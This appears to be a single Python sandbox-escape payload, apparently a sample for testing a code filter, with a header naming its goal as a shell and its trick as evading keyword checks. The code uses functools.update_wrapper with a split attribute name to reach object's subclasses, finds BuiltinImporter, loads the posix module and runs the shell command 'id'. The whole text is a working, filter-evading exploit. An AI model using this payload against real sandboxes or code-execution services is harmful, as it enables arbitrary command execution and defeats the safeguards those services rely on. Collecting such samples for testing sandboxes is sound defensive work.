# HARM: shell via BuiltinImporter | TRICK: functools.update_wrapper copies object's bound __subclasses__ onto Base by a computed attribute name (no setattr word)
import functools
class Base: pass
class A(Base): pass
functools.update_wrapper(Base, object, assigned=('__sub' + 'classes__',), updated=())
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
